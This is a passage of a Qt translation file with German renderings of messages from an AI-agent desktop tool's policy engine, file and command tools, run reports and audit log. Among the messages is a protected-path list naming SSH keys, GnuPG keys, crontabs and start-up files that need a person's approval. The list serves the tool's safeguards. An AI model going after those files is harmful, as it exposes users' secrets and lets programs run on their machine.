[truncated: only the first %1 entries are listed; list a subfolder or use a smaller depth]</source>
        <translation>
[gekürzt: nur die ersten %1 Einträge werden aufgelistet; listen Sie einen Unterordner auf oder verwenden Sie eine geringere Tiefe]</translation>
    </message>
</context>
<context>
    <name>ModelCatalog</name>
    <message>
        <source>%1 is not a valid model list: %2</source>
        <translation>%1 ist keine gültige Modellliste: %2</translation>
    </message>
    <message>
        <source>not a JSON object</source>
        <translation>kein JSON-Objekt</translation>
    </message>
    <message>
        <source>%1: model %2 has no id.</source>
        <translation>%1: Modell %2 hat keine ID.</translation>
    </message>
    <message>
        <source>%1: model %2 has an invalid end_of_life date.</source>
        <translation>%1: Modell %2 hat ein ungültiges end_of_life-Datum.</translation>
    </message>
    <message>
        <source>The built-in model list is missing.</source>
        <translation>Die integrierte Modellliste fehlt.</translation>
    </message>
    <message>
        <source>Cannot read %1: %2</source>
        <translation>%1 kann nicht gelesen werden: %2</translation>
    </message>
</context>
<context>
    <name>MonitoringSettings</name>
    <message>
        <source>The settings file %1 is invalid: %2</source>
        <translation>Die Einstellungsdatei %1 ist ungültig: %2</translation>
    </message>
    <message>
        <source>%1 must be an object</source>
        <translation>%1 muss ein Objekt sein</translation>
    </message>
    <message>
        <source>unknown key &quot;%1.%2&quot;</source>
        <translation>unbekannter Schlüssel &quot;%1.%2&quot;</translation>
    </message>
    <message>
        <source>%1.%2 must be a %3 from %4 to %5</source>
        <translation>%1.%2 muss eine %3 von %4 bis %5 sein</translation>
    </message>
    <message>
        <source>whole number</source>
        <translation>ganze Zahl</translation>
    </message>
    <message>
        <source>number</source>
        <translation>Zahl</translation>
    </message>
    <message>
        <source>unknown key &quot;monitoring.%1&quot;</source>
        <translation>unbekannter Schlüssel &quot;monitoring.%1&quot;</translation>
    </message>
    <message>
        <source>monitoring.budgets.onExceed must be &quot;stop&quot; or &quot;ask&quot;</source>
        <translation>monitoring.budgets.onExceed muss &quot;stop&quot; oder &quot;ask&quot; sein</translation>
    </message>
    <message>
        <source>monitoring.metricsEndpoint.enabled must be true or false</source>
        <translation>monitoring.metricsEndpoint.enabled muss true oder false sein</translation>
    </message>
    <message>
        <source>monitoring.log.level must be one of debug, info, warning, critical</source>
        <translation>monitoring.log.level muss einer der Werte debug, info, warning, critical sein</translation>
    </message>
    <message>
        <source>monitoring.log.file must be a path</source>
        <translation>monitoring.log.file muss ein Pfad sein</translation>
    </message>
</context>
<context>
    <name>PolicyEngine</name>
    <message>
        <source>&quot;%1&quot; (rules set in the application)</source>
        <translation>&quot;%1&quot; (in der Anwendung festgelegte Regeln)</translation>
    </message>
    <message>
        <source>&quot;%1&quot; (%2, line %3)</source>
        <translation>&quot;%1&quot; (%2, Zeile %3)</translation>
    </message>
    <message>
        <source>Denied by the rule %1.</source>
        <translation>Abgelehnt durch die Regel %1.</translation>
    </message>
    <message>
        <source>Denied by the rule %1: %2.</source>
        <translation>Abgelehnt durch die Regel %1: %2.</translation>
    </message>
    <message>
        <source>The rule %1 asks for approval.</source>
        <translation>Die Regel %1 verlangt eine Freigabe.</translation>
    </message>
    <message>
        <source>The rule %1 asks for approval: %2.</source>
        <translation>Die Regel %1 verlangt eine Freigabe: %2.</translation>
    </message>
    <message>
        <source>Allowed by the rule %1.</source>
        <translation>Erlaubt durch die Regel %1.</translation>
    </message>
    <message>
        <source>No rule decided this call</source>
        <translation>Keine Regel hat über diesen Aufruf entschieden</translation>
    </message>
    <message>
        <source>%1; %2 has the scope %3, and %3 tools need a person&apos;s approval.</source>
        <translation>%1; %2 hat den Bereich %3, und Werkzeuge mit dem Bereich %3 benötigen die Freigabe durch eine Person.</translation>
    </message>
    <message>
        <source>%1; %2 has the scope %3, and %3 tools run without approval.</source>
        <translation>%1; %2 hat den Bereich %3, und Werkzeuge mit dem Bereich %3 werden ohne Freigabe ausgeführt.</translation>
    </message>
    <message>
        <source>The tool &quot;%1&quot; is disabled.</source>
        <translation>Das Werkzeug &quot;%1&quot; ist deaktiviert.</translation>
    </message>
    <message>
        <source>&quot;%1&quot; is not an available tool; only registered tools can run (names are exact and case-sensitive).</source>
        <translation>&quot;%1&quot; ist kein verfügbares Werkzeug; nur registrierte Werkzeuge können ausgeführt werden (Namen müssen exakt übereinstimmen, Groß-/Kleinschreibung wird beachtet).</translation>
    </message>
    <message>
        <source>This run has reached its limit of %1 tool calls.</source>
        <translation>Dieser Lauf hat sein Limit von %1 Werkzeugaufrufen erreicht.</translation>
    </message>
    <message>
        <source>This run has gone past its limit of %1 steps.</source>
        <translation>Dieser Lauf hat sein Limit von %1 Schritten überschritten.</translation>
    </message>
    <message>
        <source>This run has reached its time limit of %1 seconds.</source>
        <translation>Dieser Lauf hat sein Zeitlimit von %1 Sekunden erreicht.</translation>
    </message>
    <message>
        <source>%1 was called %2 times in the last %3 seconds; the limit is %4.</source>
        <translation>%1 wurde in den letzten %3 Sekunden %2-mal aufgerufen; das Limit liegt bei %4.</translation>
    </message>
    <message>
        <source>The path &quot;%1&quot; is refused: %2</source>
        <translation>Der Pfad &quot;%1&quot; wird zurückgewiesen: %2</translation>
    </message>
    <message>
        <source>%1 of &quot;%2&quot;</source>
        <translation>%1 für &quot;%2&quot;</translation>
    </message>
    <message>
        <source>Warning: &quot;%1&quot; is a protected path (%2). Changing it can make programs run on this machine or change the agent&apos;s own settings, so a person must approve it whatever the allow rules say.</source>
        <translation>Warnung: &quot;%1&quot; ist ein geschützter Pfad (%2). Eine Änderung daran kann dazu führen, dass Programme auf diesem Rechner ausgeführt oder die eigenen Einstellungen des Agenten geändert werden; daher muss eine Person sie freigeben, unabhängig von den Erlaubnisregeln.</translation>
    </message>
    <message>
        <source>Warning: searching &quot;%1&quot; may read files that the rule %2 covers; a person must approve it.</source>
        <translation>Warnung: Die Suche in &quot;%1&quot; kann Dateien lesen, die von der Regel %2 erfasst werden; eine Person muss sie freigeben.</translation>
    </message>
    <message>
        <source>Every element of argv must be a string.</source>
        <translation>Jedes Element von argv muss eine Zeichenkette sein.</translation>
    </message>
    <message>
        <source>The command is empty.</source>
        <translation>Der Befehl ist leer.</translation>
    </message>
    <message>
        <source>&quot;%1&quot; is not a program. A command starts with a program name; variable assignments such as NAME=value are not accepted, and the environment is never taken from the model.</source>
        <translation>&quot;%1&quot; ist kein Programm. Ein Befehl beginnt mit einem Programmnamen; Variablenzuweisungen wie NAME=value werden nicht akzeptiert, und die Umgebung wird nie vom Modell übernommen.</translation>
    </message>
    <message>
        <source>The working folder &quot;%1&quot; is refused: %2</source>
        <translation>Das Arbeitsverzeichnis &quot;%1&quot; wird zurückgewiesen: %2</translation>
    </message>
    <message>
        <source>the command &quot;%1&quot;</source>
        <translation>der Befehl &quot;%1&quot;</translation>
    </message>
    <message>
        <source>&quot;%1&quot; runs &quot;%2&quot;</source>
        <translation>&quot;%1&quot; führt &quot;%2&quot; aus</translation>
    </message>
    <message>
        <source>Warning: the command may read or change paths inside &quot;%1&quot; that the rule %2 covers (denied paths may be read).</source>
        <translation>Warnung: Der Befehl kann Pfade innerhalb von &quot;%1&quot; lesen oder ändern, die von der Regel %2 erfasst werden (abgelehnte Pfade können gelesen werden).</translation>
    </message>
    <message>
        <source>the command &quot;%1&quot; names the path &quot;%2&quot;</source>
        <translation>der Befehl &quot;%1&quot; nennt den Pfad &quot;%2&quot;</translation>
    </message>
    <message>
        <source>Warning: the command names &quot;%1&quot;, a protected path (%2); changing it can make programs run on this machine or change the agent&apos;s own settings.</source>
        <translation>Warnung: Der Befehl nennt &quot;%1&quot;, einen geschützten Pfad (%2); eine Änderung daran kann dazu führen, dass Programme auf diesem Rechner ausgeführt werden oder sich die eigenen Einstellungen des Agenten ändern.</translation>
    </message>
    <message>
        <source>the command names the path &quot;%1&quot;</source>
        <translation>der Befehl nennt den Pfad &quot;%1&quot;</translation>
    </message>
    <message>
        <source>Also: %1.</source>
        <translation>Außerdem: %1.</translation>
    </message>
    <message>
        <source>A person must approve it whatever the allow rules say.</source>
        <translation>Eine Person muss den Aufruf freigeben, unabhängig davon, was die Erlauben-Regeln sagen.</translation>
    </message>
    <message>
        <source>The command &quot;%1&quot; cannot be allowed automatically: %2. A person must approve it.</source>
        <translation>Der Befehl &quot;%1&quot; kann nicht automatisch erlaubt werden: %2. Eine Person muss ihn freigeben.</translation>
    </message>
    <message>
        <source>A person must approve it.</source>
        <translation>Eine Person muss den Aufruf freigeben.</translation>
    </message>
    <message>
        <source>No allow rule covers &quot;%1&quot; in &quot;%2&quot;</source>
        <translation>Keine Erlauben-Regel deckt &quot;%1&quot; in &quot;%2&quot; ab</translation>
    </message>
    <message>
        <source>No rule decided &quot;%1&quot;</source>
        <translation>Keine Regel hat über &quot;%1&quot; entschieden</translation>
    </message>
    <message>
        <source>Every program of the command is allowed, by the rules %1.</source>
        <translation>Jedes Programm des Befehls ist durch die Regeln %1 erlaubt.</translation>
    </message>
    <message>
        <source>the agent&apos;s own settings and rules</source>
        <translation>die eigenen Einstellungen und Regeln des Agenten</translation>
    </message>
    <message>
        <source>the agent&apos;s audit trail and token ledger</source>
        <translation>das Prüfprotokoll und das Token-Register des Agenten</translation>
    </message>
    <message>
        <source>a file the shell or the desktop runs at start-up</source>
        <translation>eine Datei, die die Shell oder der Desktop beim Start ausführt</translation>
    </message>
    <message>
        <source>the user&apos;s SSH keys and settings</source>
        <translation>die SSH-Schlüssel und -Einstellungen des Benutzers</translation>
    </message>
    <message>
        <source>the user&apos;s GnuPG keys</source>
        <translation>die GnuPG-Schlüssel des Benutzers</translation>
    </message>
    <message>
        <source>git&apos;s settings (they can make git run programs)</source>
        <translation>die Einstellungen von git (sie können git Programme ausführen lassen)</translation>
    </message>
    <message>
        <source>the crontabs</source>
        <translation>die Crontabs</translation>
    </message>
    <message>
        <source>Warning: the command names &quot;%1&quot;, outside the workspace: %2. Changing it can make programs run on this machine or change the agent&apos;s own settings or records.</source>
        <translation>Warnung: Der Befehl nennt &quot;%1&quot; außerhalb des Arbeitsbereichs: %2. Eine Änderung daran kann Programme auf diesem Rechner ausführen oder die eigenen Einstellungen oder Aufzeichnungen des Agenten ändern.</translation>
    </message>
    <message>
        <source>Warning: listing &quot;%1&quot; this deep may list names inside folders that the rule %2 covers; a person must approve it.</source>
        <translation>Warnung: &quot;%1&quot; so tief aufzulisten kann Namen in Ordnern zeigen, die die Regel %2 abdeckt; eine Person muss den Aufruf freigeben.</translation>
    </message>
    <message>
        <source>&quot;%1&quot; names a file of a running process, which cannot be checked</source>
        <translation>&quot;%1&quot; bezeichnet eine Datei eines laufenden Prozesses, die nicht geprüft werden kann</translation>
    </message>
    <message>
        <source>%1 changes its working folder to &quot;%2&quot;, which cannot be checked</source>
        <translation>%1 wechselt sein Arbeitsverzeichnis zu &quot;%2&quot;, was nicht geprüft werden kann</translation>
    </message>
    <message>
        <source>The allow rule %1 does not apply to &quot;%2&quot;: a wildcard never stands for an argument with a shell character such as &quot;%3&quot; (the argument is passed as written; a variable like $HOME is not expanded)</source>
        <translation>Die allow-Regel %1 gilt nicht für &quot;%2&quot;: Ein Platzhalter steht nie für ein Argument mit einem Shell-Zeichen wie &quot;%3&quot; (das Argument wird so übergeben, wie es geschrieben ist; eine Variable wie $HOME wird nicht ersetzt)</translation>
    </message>
</context>
<context>
    <name>PolicyRules</name>
    <message>
        <source>empty rule</source>
        <translation>leere Regel</translation>
    </message>
    <message>
        <source>spaces before or after the rule</source>
        <translation>Leerzeichen vor oder nach der Regel</translation>
    </message>
    <message>
        <source>unbalanced parentheses</source>
        <translation>unausgeglichene Klammern</translation>
    </message>
    <message>
        <source>the rule does not start with a tool name</source>
        <translation>die Regel beginnt nicht mit einem Werkzeugnamen</translation>
    </message>
    <message>
        <source>&quot;%1&quot; is not a tool name (letters, digits, &apos;_&apos; and &apos;-&apos;)</source>
        <translation>&quot;%1&quot; ist kein Werkzeugname (Buchstaben, Ziffern, &apos;_&apos; und &apos;-&apos;)</translation>
    </message>
    <message>
        <source>unbalanced parentheses: the pattern must end with &apos;)&apos;</source>
        <translation>unausgeglichene Klammern: das Muster muss mit &apos;)&apos; enden</translation>
    </message>
    <message>
        <source>empty pattern; write &quot;%1&quot; alone to match every call of the tool</source>
        <translation>leeres Muster; schreiben Sie &quot;%1&quot; allein, um jeden Aufruf des Werkzeugs zu erfassen</translation>
    </message>
    <message>
        <source>unknown tool &quot;%1&quot; (known tools: %2)</source>
        <translation>unbekanntes Werkzeug &quot;%1&quot; (bekannte Werkzeuge: %2)</translation>
    </message>
    <message>
        <source>the tool &quot;%1&quot; takes no pattern; write &quot;%1&quot; alone</source>
        <translation>das Werkzeug &quot;%1&quot; akzeptiert kein Muster; schreiben Sie &quot;%1&quot; allein</translation>
    </message>
    <message>
        <source>path patterns are relative to the workspace; &quot;%1&quot; is not</source>
        <translation>Pfadmuster sind relativ zum Arbeitsbereich; &quot;%1&quot; ist es nicht</translation>
    </message>
    <message>
        <source>path patterns may not contain &quot;..&quot;</source>
        <translation>Pfadmuster dürfen kein &quot;..&quot; enthalten</translation>
    </message>
    <message>
        <source>the pattern contains a NUL character</source>
        <translation>das Muster enthält ein NUL-Zeichen</translation>
    </message>
    <message>
        <source>a command rule starts with a program, not an assignment (&quot;%1&quot;)</source>
        <translation>eine Befehlsregel beginnt mit einem Programm, nicht mit einer Zuweisung (&quot;%1&quot;)</translation>
    </message>
    <message>
        <source>a command rule starts with a program, not an option (&quot;%1&quot;)</source>
        <translation>eine Befehlsregel beginnt mit einem Programm, nicht mit einer Option (&quot;%1&quot;)</translation>
    </message>
    <message>
        <source>(rules)</source>
        <translation>(Regeln)</translation>
    </message>
    <message>
        <source>%1:%2: %3; the rules file was not loaded</source>
        <translation>%1:%2: %3; die Regeldatei wurde nicht geladen</translation>
    </message>
    <message>
        <source>invalid JSON (%1)</source>
        <translation>ungültiges JSON (%1)</translation>
    </message>
    <message>
        <source>the rules file must be a JSON object with the lists &quot;allow&quot;, &quot;ask&quot; and &quot;deny&quot;</source>
        <translation>die Regeldatei muss ein JSON-Objekt mit den Listen &quot;allow&quot;, &quot;ask&quot; und &quot;deny&quot; sein</translation>
    </message>
    <message>
        <source>the key &quot;%1&quot; appears twice</source>
        <translation>der Schlüssel &quot;%1&quot; kommt zweimal vor</translation>
    </message>
    <message>
        <source>unknown key &quot;%1&quot; (expected &quot;allow&quot;, &quot;ask&quot; or &quot;deny&quot;)</source>
        <translation>unbekannter Schlüssel &quot;%1&quot; (erwartet: &quot;allow&quot;, &quot;ask&quot; oder &quot;deny&quot;)</translation>
    </message>
    <message>
        <source>&quot;%1&quot; must be a list of strings</source>
        <translation>&quot;%1&quot; muss eine Liste von Zeichenketten sein</translation>
    </message>
    <message>
        <source>entry %1 in &quot;%2&quot; is not a string</source>
        <translation>Eintrag %1 in &quot;%2&quot; ist keine Zeichenkette</translation>
    </message>
    <message>
        <source>%1 rule &quot;%2&quot;: %3</source>
        <translation>%1-Regel &quot;%2&quot;: %3</translation>
    </message>
    <message>
        <source>%1: cannot read the rules file (%2); no rules were loaded</source>
        <translation>%1: die Regeldatei kann nicht gelesen werden (%2); es wurden keine Regeln geladen</translation>
    </message>
    <message>
        <source>%1: the rules file is larger than 4 MiB; no rules were loaded</source>
        <translation>%1: die Regeldatei ist größer als 4 MiB; es wurden keine Regeln geladen</translation>
    </message>
</context>
<context>
    <name>PricingTable</name>
    <message>
        <source>The built-in price list is missing from this build.</source>
        <translation>Die eingebaute Preisliste fehlt in diesem Build.</translation>
    </message>
    <message>
        <source>Cannot read the price list %1: %2</source>
        <translation>Die Preisliste %1 kann nicht gelesen werden: %2</translation>
    </message>
    <message>
        <source>The price list %1 is invalid: %2</source>
        <translation>Die Preisliste %1 ist ungültig: %2</translation>
    </message>
    <message>
        <source>%1 at byte %2</source>
        <translation>%1 bei Byte %2</translation>
    </message>
    <message>
        <source>the top level must be a JSON object</source>
        <translation>die oberste Ebene muss ein JSON-Objekt sein</translation>
    </message>
    <message>
        <source>unsupported schema %1</source>
        <translation>nicht unterstütztes Schema %1</translation>
    </message>
    <message>
        <source>&quot;per&quot; must be a positive number of tokens</source>
        <translation>&quot;per&quot; muss eine positive Anzahl von Tokens sein</translation>
    </message>
    <message>
        <source>%1 must be a non-negative number</source>
        <translation>%1 muss eine nicht negative Zahl sein</translation>
    </message>
    <message>
        <source>multipliers.%1 must be a number from 0 to 100</source>
        <translation>multipliers.%1 muss eine Zahl von 0 bis 100 sein</translation>
    </message>
    <message>
        <source>&quot;models&quot; must be an array</source>
        <translation>&quot;models&quot; muss ein Array sein</translation>
    </message>
    <message>
        <source>%1 must be an object</source>
        <translation>%1 muss ein Objekt sein</translation>
    </message>
    <message>
        <source>%1 needs exactly one of &quot;id&quot; and &quot;prefix&quot;</source>
        <translation>%1 benötigt genau eines von &quot;id&quot; und &quot;prefix&quot;</translation>
    </message>
    <message>
        <source>%1.date must be a date YYYY-MM-DD</source>
        <translation>%1.date muss ein Datum im Format YYYY-MM-DD sein</translation>
    </message>
    <message>
        <source>%1.above_prompt_tokens needs a whole-number &quot;limit&quot;</source>
        <translation>%1.above_prompt_tokens benötigt ein ganzzahliges &quot;limit&quot;</translation>
    </message>
</context>
<context>
    <name>ReadFileTool</name>
    <message>
        <source>&quot;%1&quot; looks like a binary file (it contains NUL bytes); only text files can be read.</source>
        <translation>&quot;%1&quot; scheint eine Binärdatei zu sein (sie enthält NUL-Bytes); nur Textdateien können gelesen werden.</translation>
    </message>
    <message>
        <source>&quot;%1&quot; is not valid UTF-8 text; only UTF-8 text files can be read.</source>
        <translation>&quot;%1&quot; ist kein gültiger UTF-8-Text; nur UTF-8-Textdateien können gelesen werden.</translation>
    </message>
    <message>
        <source>end_line (%1) is before start_line (%2).</source>
        <translation>end_line (%1) liegt vor start_line (%2).</translation>
    </message>
    <message>
        <source> in the first 16 MiB</source>
        <translation> in den ersten 16 MiB</translation>
    </message>
    <message>
        <source>[line %1 alone is longer than 256 KiB; it was not returned]
</source>
        <translation>[Zeile %1 allein ist länger als 256 KiB; sie wurde nicht zurückgegeben]
</translation>
    </message>
    <message>
        <source>[truncated: showing lines %1-%2 of %3%4; the file has %5 bytes. Use start_line and end_line to read further.]</source>
        <translation>[gekürzt: Zeilen %1-%2 von %3%4 werden angezeigt; die Datei hat %5 Bytes. Verwenden Sie start_line und end_line, um weiterzulesen.]</translation>
    </message>
    <message>
        <source> (counted in the first 16 MiB)</source>
        <translation> (gezählt in den ersten 16 MiB)</translation>
    </message>
    <message>
        <source>
[note: this file has %1 hard links; one of them may lie outside the workspace]</source>
        <translation>
[Hinweis: Diese Datei hat %1 harte Links; einer davon kann außerhalb des Arbeitsbereichs liegen]</translation>
    </message>
    <message numerus="yes">
        <source>start_line %1 is beyond the end of &quot;%2&quot; (%n line(s)%3).</source>
        <translation>
            <numerusform>start_line %1 liegt hinter dem Ende von &quot;%2&quot; (%n Zeile%3).</numerusform>
            <numerusform>start_line %1 liegt hinter dem Ende von &quot;%2&quot; (%n Zeilen%3).</numerusform>
        </translation>
    </message>
</context>
<context>
    <name>ReplayProvider</name>
    <message>
        <source>Cannot read the transcript %1: %2</source>
        <translation>Der Mitschnitt %1 kann nicht gelesen werden: %2</translation>
    </message>
    <message>
        <source>The transcript %1 is not a JSON object (%2).</source>
        <translation>Der Mitschnitt %1 ist kein JSON-Objekt (%2).</translation>
    </message>
    <message>
        <source>The transcript %1 has no &quot;turns&quot;.</source>
        <translation>Der Mitschnitt %1 enthält keine &quot;turns&quot;.</translation>
    </message>
    <message>
        <source>Turn %1 of the transcript %2 needs &quot;content&quot; (an array) and &quot;stop_reason&quot;.</source>
        <translation>Runde %1 des Mitschnitts %2 benötigt &quot;content&quot; (ein Array) und &quot;stop_reason&quot;.</translation>
    </message>
    <message>
        <source>Turn %1 of the transcript %2: a tool_use block needs an &quot;id&quot; and an object &quot;input&quot;.</source>
        <translation>Runde %1 des Mitschnitts %2: Ein tool_use-Block benötigt eine &quot;id&quot; und ein Objekt &quot;input&quot;.</translation>
    </message>
    <message>
        <source>The recorded transcript %1 has no more turns.</source>
        <translation>Der aufgezeichnete Mitschnitt %1 enthält keine weiteren Runden.</translation>
    </message>
    <message>
        <source>The model turn was cancelled.</source>
        <translation>Die Modellrunde wurde abgebrochen.</translation>
    </message>
</context>
<context>
    <name>RunCommandTool</name>
    <message>
        <source>The program %1 does not exist.</source>
        <translation>Das Programm %1 existiert nicht.</translation>
    </message>
    <message>
        <source>%1 is not a program file.</source>
        <translation>%1 ist keine Programmdatei.</translation>
    </message>
    <message>
        <source>%1 is not executable (no execute permission); it is not run through a shell either.</source>
        <translation>%1 ist nicht ausführbar (keine Ausführungsberechtigung); es wird auch nicht über eine Shell ausgeführt.</translation>
    </message>
    <message>
        <source>%1 cannot be read.</source>
        <translation>%1 kann nicht gelesen werden.</translation>
    </message>
    <message>
        <source>%1 cannot be run: exec format error (it is neither a binary nor a script with a #! line); it is not run through a shell either.</source>
        <translation>%1 kann nicht ausgeführt werden: Exec-Formatfehler (es ist weder eine Binärdatei noch ein Skript mit einer #!-Zeile); es wird auch nicht über eine Shell ausgeführt.</translation>
    </message>
    <message>
        <source>Every element of argv must be a string.</source>
        <translation>Jedes Element von argv muss eine Zeichenkette sein.</translation>
    </message>
    <message>
        <source>argv[0] (the program) is empty.</source>
        <translation>argv[0] (das Programm) ist leer.</translation>
    </message>
    <message>
        <source>An argument contains a NUL byte.</source>
        <translation>Ein Argument enthält ein NUL-Byte.</translation>
    </message>
    <message>
        <source>&quot;%1&quot; is not a program: argv[0] looks like an environment assignment, and assignments are never applied to the environment.</source>
        <translation>&quot;%1&quot; ist kein Programm: argv[0] sieht wie eine Umgebungszuweisung aus, und Zuweisungen werden nie auf die Umgebung angewendet.</translation>
    </message>
    <message>
        <source>The working folder &quot;%1&quot; is not a folder.</source>
        <translation>Das Arbeitsverzeichnis &quot;%1&quot; ist kein Ordner.</translation>
    </message>
    <message>
        <source>The program &quot;%1&quot; was not found on PATH (%2).</source>
        <translation>Das Programm &quot;%1&quot; wurde im PATH nicht gefunden (%2).</translation>
    </message>
    <message>
        <source>%1 could not be started: %2</source>
        <translation>%1 konnte nicht gestartet werden: %2</translation>
    </message>
    <message>
        <source>[timed out after %1 s; the process group was killed]
</source>
        <translation>[Zeitüberschreitung nach %1 s; die Prozessgruppe wurde beendet]
</translation>
    </message>
    <message>
        <source>[killed: more than %1 bytes of output]
</source>
        <translation>[beendet: mehr als %1 Bytes Ausgabe]
</translation>
    </message>
    <message>
        <source>[terminated by a signal]
</source>
        <translation>[durch ein Signal beendet]
</translation>
    </message>
    <message>
        <source>exit code: %1
</source>
        <translation>Exit-Code: %1
</translation>
    </message>
    <message>
        <source>
[stdout truncated: %1 of %2 bytes shown]</source>
        <translation>
[stdout gekürzt: %1 von %2 Bytes angezeigt]</translation>
    </message>
    <message>
        <source>
[stderr truncated: %1 of %2 bytes shown]</source>
        <translation>
[stderr gekürzt: %1 von %2 Bytes angezeigt]</translation>
    </message>
</context>
<context>
    <name>RunReport</name>
    <message>
        <source>Run %1 finished: %2</source>
        <translation>Lauf %1 beendet: %2</translation>
    </message>
    <message>
        <source> (dry run: no tool was executed)</source>
        <translation> (Probelauf: kein Werkzeug wurde ausgeführt)</translation>
    </message>
    <message>
        <source>  error: %1: %2
</source>
        <translation>  Fehler: %1: %2
</translation>
    </message>
    <message>
        <source>  provider: %1
</source>
        <translation>  Anbieter: %1
</translation>
    </message>
    <message>
        <source>  agent %1, model %2, provider %3
</source>
        <translation>  Agent %1, Modell %2, Anbieter %3
</translation>
    </message>
    <message>
        <source>  steps %1, API calls %2, duration %3 s
</source>
        <translation>  Schritte %1, API-Aufrufe %2, Dauer %3 s
</translation>
    </message>
    <message>
        <source>  tool calls: %1 proposed, %2 approved, %3 denied, %4 executed, %5 failed, %6 expired, %7 cancelled, %8 not run (dry run)
</source>
        <translation>  Werkzeugaufrufe: %1 vorgeschlagen, %2 freigegeben, %3 abgelehnt, %4 ausgeführt, %5 fehlgeschlagen, %6 abgelaufen, %7 abgebrochen, %8 nicht ausgeführt (Probelauf)
</translation>
    </message>
    <message>
        <source>  tokens: %1 in, %2 out, %3 cache write, %4 cache read
</source>
        <translation>  Tokens: %1 Eingabe, %2 Ausgabe, %3 Cache-Schreiben, %4 Cache-Lesen
</translation>
    </message>
    <message>
        <source>  cost: $%1%2
</source>
        <translation>  Kosten: $%1%2
</translation>
    </message>
    <message>
        <source> (incomplete: some prices unknown)</source>
        <translation> (unvollständig: einige Preise unbekannt)</translation>
    </message>
    <message>
        <source>  cost: unknown
</source>
        <translation>  Kosten: unbekannt
</translation>
    </message>
    <message>
        <source>  plan:
</source>
        <translation>  Plan:
</translation>
    </message>
    <message>
        <source>  cost: $0 (%1 provider: nothing is billed)
</source>
        <translation>  Kosten: $0 (Anbieter %1: nichts wird berechnet)
</translation>
    </message>
</context>
<context>
    <name>RunSession</name>
    <message>
        <source>Write a goal first: what should the agent do?</source>
        <translation>Geben Sie zuerst ein Ziel ein: Was soll der Agent tun?</translation>
    </message>
    <message>
        <source>Approval tokens cannot be issued: %1
Set M1_JWT_SECRET (32 bytes or more) or unlock the keychain, then retry.</source>
        <translation>Freigabe-Tokens können nicht ausgestellt werden: %1
Setzen Sie M1_JWT_SECRET (32 Bytes oder mehr) oder entsperren Sie den Schlüsselbund und versuchen Sie es dann erneut.</translation>
    </message>
    <message>
        <source>Unknown agent profile &quot;%1&quot; (see %2).</source>
        <translation>Unbekanntes Agentenprofil &quot;%1&quot; (siehe %2).</translation>
    </message>
    <message>
        <source>No API key for Claude. Enter one in Settings (stored in the keychain) or set ANTHROPIC_API_KEY; without a key the offline replay runs instead.</source>
        <translation>Kein API-Schlüssel für Claude. Geben Sie einen in den Einstellungen ein (er wird im Schlüsselbund gespeichert) oder setzen Sie ANTHROPIC_API_KEY; ohne Schlüssel wird stattdessen die Offline-Wiedergabe ausgeführt.</translation>
    </message>
    <message>
        <source>Choose the workspace folder the agent may work in.</source>
        <translation>Wählen Sie den Arbeitsordner, in dem der Agent arbeiten darf.</translation>
    </message>
    <message>
        <source>Unknown model &quot;%1&quot; (the list is in %2).</source>
        <translation>Unbekanntes Modell &quot;%1&quot; (die Liste steht in %2).</translation>
    </message>
    <message>
        <source>The audit database is not open (%1), and nothing runs unrecorded. Fix it as the error dialog says, or choose another database in Settings, then retry.</source>
        <translation>Die Prüfprotokoll-Datenbank ist nicht geöffnet (%1), und nichts läuft ohne Protokoll. Beheben Sie das Problem wie im Fehlerdialog beschrieben oder wählen Sie in den Einstellungen eine andere Datenbank, und versuchen Sie es dann erneut.</translation>
    </message>
    <message>
        <source>still opening</source>
        <translation>wird noch geöffnet</translation>
    </message>
</context>
<context>
    <name>SafeFile</name>
    <message>
        <source>&quot;%1&quot; is a symbolic link; it is not followed.</source>
        <translation>&quot;%1&quot; ist ein symbolischer Link; ihm wird nicht gefolgt.</translation>
    </message>
    <message>
        <source>&quot;%1&quot; is not a folder.</source>
        <translation>&quot;%1&quot; ist kein Ordner.</translation>
    </message>
    <message>
        <source>&quot;%1&quot; does not exist.</source>
        <translation>&quot;%1&quot; existiert nicht.</translation>
    </message>
    <message>
        <source>&quot;%1&quot; cannot be opened: %2.</source>
        <translation>&quot;%1&quot; kann nicht geöffnet werden: %2.</translation>
    </message>
    <message>
        <source>&quot;%1&quot; does not name a file inside the workspace.</source>
        <translation>&quot;%1&quot; bezeichnet keine Datei innerhalb des Arbeitsbereichs.</translation>
    </message>
    <message>
        <source>The workspace %1 cannot be opened: %2.</source>
        <translation>Der Arbeitsbereich %1 kann nicht geöffnet werden: %2.</translation>
    </message>
    <message>
        <source>The folder &quot;%1&quot; cannot be created: %2.</source>
        <translation>Der Ordner &quot;%1&quot; kann nicht erstellt werden: %2.</translation>
    </message>
    <message>
        <source>&quot;%1&quot; cannot be read: %2.</source>
        <translation>&quot;%1&quot; kann nicht gelesen werden: %2.</translation>
    </message>
    <message>
        <source>&quot;%1&quot; is a folder, not a file.</source>
        <translation>&quot;%1&quot; ist ein Ordner, keine Datei.</translation>
    </message>
    <message>
        <source>&quot;%1&quot; is not a regular file (device, pipe or socket).</source>
        <translation>&quot;%1&quot; ist keine reguläre Datei (Gerät, Pipe oder Socket).</translation>
    </message>
    <message>
        <source>The workspace root is a folder, not a file.</source>
        <translation>Das Wurzelverzeichnis des Arbeitsbereichs ist ein Ordner, keine Datei.</translation>
    </message>
    <message>
        <source>&quot;%1&quot; is a symbolic link; writes never go through a link.</source>
        <translation>&quot;%1&quot; ist ein symbolischer Link; Schreibzugriffe erfolgen nie über einen Link.</translation>
    </message>
    <message>
        <source>&quot;%1&quot; exists and is not a regular file.</source>
        <translation>&quot;%1&quot; existiert und ist keine reguläre Datei.</translation>
    </message>
    <message>
        <source>&quot;%1&quot; cannot be written: %2.</source>
        <translation>&quot;%1&quot; kann nicht geschrieben werden: %2.</translation>
    </message>
    <message>
        <source>A folder cannot be listed: %1.</source>
        <translation>Ein Ordner kann nicht aufgelistet werden: %1.</translation>
    </message>
    <message>
        <source>&quot;%1&quot; has %2 hard links; one of them may lie outside the workspace, so it is not read.</source>
        <translation>&quot;%1&quot; hat %2 harte Links; einer davon kann außerhalb des Arbeitsbereichs liegen, daher wird sie nicht gelesen.</translation>
    </message>
    <message>
        <source>&quot;%1&quot; is the audit database this program is recording into (or one of its files); tools neither open nor replace it. Read the audit trail with m1ctl history or in the History view.</source>
        <translation>&quot;%1&quot; ist die Prüfprotokoll-Datenbank, in die dieses Programm aufzeichnet (oder eine ihrer Dateien); Werkzeuge öffnen und ersetzen sie nicht. Lesen Sie das Prüfprotokoll mit m1ctl history oder in der Verlaufsansicht.</translation>
    </message>
</context>
<context>
    <name>SchemaMigrations</name>
    <message>
